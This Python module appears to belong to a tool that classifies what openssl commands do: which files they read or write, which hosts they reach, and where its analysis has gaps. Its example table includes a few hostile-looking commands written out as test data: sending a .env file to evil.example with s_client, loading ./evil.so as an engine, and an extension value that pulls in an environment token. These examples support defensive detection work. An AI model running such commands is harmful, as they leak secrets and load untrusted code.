"""openssl: certificates, keys, digests and connections; subcommands that are not described here are gaps."""

from __future__ import annotations

from assent.commands.program import Program, options_of, roles_of, turns_off
from assent.types import Word

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from assent.commands.args import Args
    from assent.commands.program import Fact

DIGEST_NAMES = (
    "md4 md5 sha1 sha224 sha256 sha384 sha512 sha512-224 sha512-256 sha3-224 sha3-256 sha3-384 sha3-512 shake128"
    " shake256 blake2b512 blake2s256 ripemd160 rmd160 sm3"
)
CIPHER_NAMES = (
    "aes-128-cbc aes-192-cbc aes-256-cbc aes-128-ecb aes-192-ecb aes-256-ecb aes-128-ctr aes-192-ctr aes-256-ctr"
    " aes-128-cfb aes-256-cfb aes-128-ofb aes-256-ofb aes128 aes192 aes256 des des3 des-ede3-cbc camellia-256-cbc"
    " chacha20 rc4 bf bf-cbc"
)
DIGESTS = " ".join(f"-{name}" for name in DIGEST_NAMES.split())
CIPHERS = " ".join(f"-{name}" for name in CIPHER_NAMES.split())
RANDOM = "-rand=read -writerand=write -engine=run -provider=run -provider-path=run -propquery= -help"
KEY = f"-in=read -out=write -inform= -outform= -passin= -passout= -noout -text {RANDOM}"
TRUST = (
    "-CAfile=read -CApath=read -no-CAfile -no-CApath -no-CAstore -policy= -purpose= -verify_name= -verify_depth="
    " -auth_level= -attime= -verify_hostname= -verify_email= -verify_ip= -ignore_critical -issuer_checks -crl_check"
    " -crl_check_all -policy_check -x509_strict -extended_crl -use_deltas -check_ss_sig -trusted_first -suiteB_128"
    " -suiteB_192 -partial_chain -no_alt_chains -no_check_time -allow_proxy_certs"
)
PASSWORDS = ("-passin", "-passout", "-pass", "-password", "-passcerts")
PLAIN_EXTENSIONS = frozenset(
    """subjectAltName basicConstraints keyUsage extendedKeyUsage authorityKeyIdentifier subjectKeyIdentifier
    nameConstraints tlsfeature nsComment nsCertType""".split()
)
"""Extensions of a certificate that are made of what stands in them."""


def _loading(args: Args) -> Iterator[Fact]:
    """What most subcommands have in common: passwords in files, keys that are no files, libraries."""
    for word in args.values(*PASSWORDS):
        source, _, path = (word.value or "").partition(":")
        if source == "file":
            yield from args.file("read", Word(word.text, path))
        elif word.value is None and not word.text.lstrip("\"'").startswith(("pass:", "env:")):
            yield args.gap(f"a password is not known ({word.why})", blind=True, reading=True)
    yield from _addressed(args)
    if args.has("-engine", "-provider", "-provider-path"):
        yield args.gap("loads a library")
    if args.has("-config", "-extfile"):
        yield args.gap("a file holds further settings")


def _addressed(args: Args) -> Iterator[Fact]:
    """What it reads may be an address instead of a file: `http://host/x`, `pkcs11:x`, or `file:/path`."""
    table = options_of(args.program.options)
    words = [word for name in args.given if table[name].role == "read" for word in args.values(name)]
    if "read" in roles_of(args.program.operands)[0]:
        words += args.operands
    for word in words:
        scheme, colon, rest = (word.value or "").partition(":")
        if colon and scheme == "file":
            path = f"/{rest[2:].partition('/')[2]}" if rest.startswith("//") else rest
            yield from args.file("read", Word(word.text, path))
        if colon:
            yield args.gap(f"`{word.value}` may be an address or a device")


@turns_off("", everything="-CAserial -set_serial")
def _certificate(args: Args) -> Iterator[Fact]:
    """The number of the next certificate is kept beside the authority's own, unless this one's is given."""
    yield from _loading(args)
    if not args.has("-CAserial", "-set_serial"):
        for word in args.values("-CA"):
            stem, dot, _ = (word.value or "").rpartition(".")
            yield from args.file("write", Word(word.text, f"{stem if dot else word.value}.srl") if word.value else word)


def _extensions(args: Args) -> Iterator[Fact]:
    """`-addext` is a line of settings, which can hold variables, further lines and for some extensions whole files."""
    for word in args.values("-addext"):
        if word.value is None:
            yield args.gap(f"an extension is not known ({word.why})", blind=True, reading=True)
            continue
        name, _, text = word.value.partition("=")
        for piece in text.split("file:")[1:]:
            path = piece.partition("\n")[0].partition(",")[0].strip()
            yield from args.file("read", Word(word.text, path))
        if name.strip() not in PLAIN_EXTENSIONS or "file:" in text or any(sign in text for sign in "$\\\n@"):
            yield args.gap(f"extension `{word.text}` is not understood")


@turns_off("", everything="-key -in -keyout")
def _request(args: Args) -> Iterator[Fact]:
    """A new key without `-keyout` goes where the settings say: `privkey.pem` as they are delivered."""
    yield from _loading(args)
    yield from _extensions(args)
    makes_key = args.has("-newkey") or (args.has("-new", "-precert") and not args.has("-key"))
    makes_key = makes_key or (args.has("-x509", "-CA") and not args.has("-key", "-in"))
    if makes_key and not args.has("-keyout"):
        yield from args.file("write", Word("privkey.pem", "privkey.pem"))


def _client(args: Args) -> Iterator[Fact]:
    """Standard input goes to the other side."""
    yield from _loading(args)
    if args.has("-proxy", "-unix"):
        yield args.gap("reaches another machine or program than the address says")
    host = [*args.values("-connect"), *args.operands]
    if args.has("-host"):
        host.append(Word(args.text("-host") or "?", f"{args.text('-host')}:{args.text('-port') or 4433}"))
    if not host:
        yield args.effect("reach", "localhost:4433")
    for word in host:
        if word.value is None:
            yield args.effect("send", word.text)
            yield args.gap(f"the machine is not known ({word.why})", blind=True)
        else:
            yield from args.reach(f"https://{word.value}", shown=word.value, kind="send" if args.has_input else "reach")


def _interactive(args: Args) -> Iterator[Fact]:
    """Alone, older versions read commands from standard input."""
    if len(args.call.words) == 1:
        yield args.gap("the commands it will be given are not known")


def _key(more: str = "", operands: str = "") -> Program:
    return Program(f"{KEY} {CIPHERS} {more}", operands, style="single posix", more=_loading)


DIGEST = Program(
    "-list -passin= -c -r -out=write -keyform= -hex -binary -xoflen= -d -debug -sign=read -verify=read -prverify=read"
    f" -sigopt= -signature=read -hmac= -mac= -macopt= {DIGESTS} {RANDOM}",
    "read*",
    style="single posix",
    more=_loading,
)
ENCODING = Program(
    "-list -ciphers -e -d -p -P -in=read -k= -kfile=read -out=write -pass= -v -a -base64 -A -nopad -salt -nosalt -debug"
    f" -bufsize= -K= -S= -iv= -md= -iter= -pbkdf2 -none {CIPHERS} {RANDOM}",
    style="single posix",
    more=_loading,
)

COMMANDS = {
    "version": Program("-help -a -b -d -e -m -f -o -p -r -v -c", style="single posix"),
    "help": Program(operands="text*"),
    "rand": Program(f"-out=write -base64 -hex {RANDOM}", "text", style="single posix", more=_loading),
    "dgst": DIGEST,
    **dict.fromkeys(DIGEST_NAMES.split(), DIGEST),
    "enc": ENCODING,
    "base64": ENCODING,
    **dict.fromkeys(CIPHER_NAMES.split(), ENCODING),
    "x509": Program(
        "-in=read -passin= -new -x509toreq -req -copy_extensions= -inform= -vfyopt= -key=read -signkey=read -keyform="
        " -out=write -outform= -nocert -noout -text -dateopt= -certopt= -fingerprint -alias -serial -startdate -enddate"
        " -dates -subject -issuer -nameopt= -email -hash -subject_hash -subject_hash_old -issuer_hash -issuer_hash_old"
        " -ext= -ocspid -ocsp_uri -purpose -pubkey -modulus -checkend= -checkhost= -checkemail= -checkip= -set_serial="
        " -next_serial -days= -preserve_dates -subj= -force_pubkey=read -clrext -extfile=read -extensions= -sigopt="
        " -CA=read -CAform= -CAkey=read -CAkeyform= -CAserial=write -CAcreateserial -trustout -setalias= -clrtrust"
        f" -addtrust= -clrreject -addreject= {DIGESTS} {RANDOM}",
        style="single posix",
        more=_certificate,
    ),
    "req": Program(
        "-in=read -inform= -verify -new -config=read -section= -utf8 -nameopt= -reqopt= -text -x509 -CA=read"
        " -CAkey=read -subj= -subject -multivalue-rdn -days= -set_serial= -copy_extensions= -addext= -extensions="
        " -reqexts= -precert -key=read -keyform= -pubkey -keyout=write -passin= -passout= -newkey= -pkeyopt="
        f" -sigopt= -vfyopt= -out=write -outform= -batch -verbose -noenc -nodes -noout -newhdr -modulus {DIGESTS}"
        f" {RANDOM}",
        style="single posix",
        more=_request,
    ),
    "s_client": Program(
        "-connect= -host= -port= -bind= -proxy= -unix=write -4 -6 -cert=read -certform= -cert_chain=read"
        " -build_chain -key=read -keyform= -pass= -verify= -nameopt= -requestCAfile=read -reconnect -sess_out=write"
        " -sess_in=read -crlf -quiet -ign_eof -no_ign_eof -starttls= -xmpphost= -name= -brief -prexit -showcerts"
        " -debug -msg -msgfile=write -state -trace -keylogfile=write -nocommands -servername= -noservername"
        " -tlsextdebug -status -serverinfo= -alpn= -tls1 -tls1_1 -tls1_2 -tls1_3 -no_ssl3 -no_tls1 -no_tls1_1"
        " -no_tls1_2 -no_tls1_3 -bugs -no_ticket -sigalgs= -groups= -curves= -cipher= -ciphersuites= -min_protocol="
        " -max_protocol= -verify_return_error -verify_quiet -nextprotoneg= -timeout -dtls -dtls1_2 -security_debug"
        f" -early_data=read {TRUST} {RANDOM}",
        "text*",
        style="single posix",
        more=_client,
    ),
    "genrsa": Program(
        f"-3 -F4 -f4 -out=write -passout= -primes= -verbose -traditional {CIPHERS} {RANDOM}",
        "text",
        style="single posix",
        more=_loading,
    ),
    "genpkey": Program(
        f"-paramfile=read -algorithm= -quiet -pkeyopt= -config=read -out=write -outform= -pass= -genparam -text"
        f" {CIPHERS} {RANDOM}",
        style="single posix",
        more=_loading,
    ),
    "rsa": _key("-check -pubin -RSAPublicKey_in -pubout -RSAPublicKey_out -modulus -traditional"),
    "ec": _key("-pubin -check -param_enc= -conv_form= -param_out -pubout -no_public"),
    "pkey": _key("-check -pubcheck -pubin -traditional -pubout -text_pub -ec_conv_form= -ec_param_enc="),
    "pkcs8": _key(
        "-v1= -v2= -v2prf= -nocrypt -topk8 -traditional -iter= -noiter -scrypt -scrypt_N= -scrypt_r= -scrypt_p="
    ),
    "ecparam": _key("-list_curves -genkey -param_enc= -check -check_named -no_seed -name= -conv_form="),
    "dhparam": _key("-check -dsaparam -2 -3 -5", "text"),
    "crl": _key(
        f"-verify -key=read -keyform= -dateopt= -hash -hash_old -nameopt= -issuer -lastupdate -nextupdate"
        f" -fingerprint -crlnumber -CAfile=read -CApath=read {DIGESTS}"
    ),
    "asn1parse": _key("-oid=read -offset= -length= -strparse= -genstr= -strictpem -item= -i -dump -dlimit="),
    "pkcs12": _key(
        "-password= -twopass -nokeys -nocerts -legacy -info -nomacver -clcerts -cacerts -noenc -nodes -export"
        " -inkey=read -certfile=read -passcerts= -chain -untrusted=read -CAfile=read -CApath=read -name= -caname="
        " -CSP= -LMK -keyex -keysig -keypbe= -certpbe= -descert -macalg= -iter= -noiter -nomaciter -maciter -nomac"
    ),
    "verify": Program(
        f"-verbose -nameopt= -trusted=read -untrusted=read -CRLfile=read -show_chain -vfyopt= {TRUST} {RANDOM}",
        "read*",
        style="single posix",
        more=_loading,
    ),
    "passwd": Program(
        f"-in=read -noverify -stdin -quiet -table -reverse -salt= -6 -5 -apr1 -1 -aixmd5 {RANDOM}",
        "text*",
        style="single posix",
        more=_loading,
    ),
    "ciphers": Program(
        "-v -V -stdname -convert= -s -tls1 -tls1_1 -tls1_2 -tls1_3 -psk -srp -ciphersuites= -help",
        "text*",
        style="single posix",
    ),
    "prime": Program("-bits= -checks= -hex -generate -safe -help", "text*", style="single posix"),
    "speed": Program(
        f"-mb -mr -multi= -async_jobs= -primes= -evp= -hmac= -cmac= -decrypt -aead -elapsed -seconds= -bytes="
        f" -misalign= {RANDOM}",
        "text*",
        style="single posix",
        more=_loading,
    ),
    "list": Program(
        "-1 -verbose -select= -commands -standard-commands -digest-commands -digest-algorithms -kdf-algorithms"
        " -mac-algorithms -cipher-commands -cipher-algorithms -public-key-algorithms -public-key-methods"
        " -providers -engines -disabled -options= -objects -help",
        style="single posix",
    ),
}

PROGRAMS = {"openssl": Program(commands=COMMANDS, more=_interactive)}

EXAMPLES = {
    "openssl verify x -propquery .env": "read x | read -propquery | read .env",
    "openssl version -a": "note openssl version",
    "openssl rand -hex 32": "note openssl rand",
    "openssl rand -out a 16": "write a",
    "openssl dgst -sha256 data.txt": "read data.txt",
    "openssl sha256 a b": "read a | read b",
    "openssl dgst -sha256 -sign key -out sig data.txt": "read key | write sig | read data.txt",
    "openssl enc -in .env": "read .env",
    "openssl enc -aes-256-cbc -salt -pbkdf2 -in a -out b -pass file:pw": "read a | write b | read pw",
    "openssl base64 -d -in a": "read a",
    "openssl x509 -in server.crt -noout -text": "read server.crt",
    "openssl x509 -in server.crt -noout -fingerprint -sha256": "read server.crt",
    "openssl x509 -req -in a.csr -CA ca.pem -CAkey ca.key -CAcreateserial -out a.crt": "read a.csr | read ca.pem"
    " | read ca.key | write a.crt | write ca.srl",
    "openssl req -x509 -nodes -days 365 -newkey rsa:2048 -keyout key -out cert -subj /CN=localhost": "write key"
    " | write cert",
    "openssl x509 -req -in a.csr -CA ca.pem -CAkey ca.key": "read a.csr | read ca.pem | read ca.key | write ca.srl",
    "openssl x509 -req -in a.csr -CA ca.pem -CAkey ca.key -set_serial 1": "read a.csr | read ca.pem | read ca.key",
    "openssl x509 -in file:/etc/a -noout": "read file:/etc/a | read /etc/a"
    " | gap openssl x509: `file:/etc/a` may be an address or a device",
    "openssl req -new -key k -addext subjectAltName=DNS:a.example,IP:127.0.0.1": "read k",
    "openssl req -x509 -key k -addext 'proxyCertInfo=critical,policy:file:/etc/a'": "read k | read /etc/a"
    " | gap openssl req: extension `'proxyCertInfo=critical,policy:file:/etc/a'` is not understood",
    "openssl req -x509 -key k -addext 'subjectAltName=DNS:$ENV::TOKEN'": "read k"
    " | gap openssl req: extension `'subjectAltName=DNS:$ENV::TOKEN'` is not understood",
    "openssl req -new -newkey rsa:2048 -nodes": "write privkey.pem",
    "openssl req -new -config x.cnf -key key": "read x.cnf | read key | gap openssl req: a file holds further settings",
    "openssl s_client -connect a.example:443 -servername a.example": "reach a.example:443",
    "openssl s_client -connect evil.example:443 < .env": "read .env #redirect | send evil.example:443",
    "openssl genrsa -out key 2048": "write key",
    "openssl genpkey -algorithm ED25519 -out key": "write key",
    "openssl rsa -in key -pubout -out pub": "read key | write pub",
    "openssl pkcs12 -export -in a -inkey b -out c -passout pass:x": "read a | read b | write c",
    "openssl pkcs12 -export -in a -passcerts file:pw -out c": "read a | write c | read pw",
    "openssl verify -CAfile ca.pem a.crt": "read ca.pem | read a.crt",
    "openssl verify http://a.example/a": "read http://a.example/a"
    " | gap openssl verify: `http://a.example/a` may be an address or a device",
    "openssl passwd -6 secret": "note openssl passwd",
    "openssl speed -mr -seconds 1 sha256": "note openssl speed",
    "openssl rand -engine ./evil.so 1": "run ./evil.so #program | gap openssl rand: loads a library",
    "openssl engine -t ./evil.so": "run openssl engine #program | maybe read ./evil.so"
    " | gap openssl: subcommand engine is not known",
    "openssl x509 --in a": "note openssl x509 | gap openssl x509: option --in is not known | gap openssl x509: `a"
    "` is one word too many",
    "openssl": "note openssl | gap openssl: the commands it will be given are not known",
}
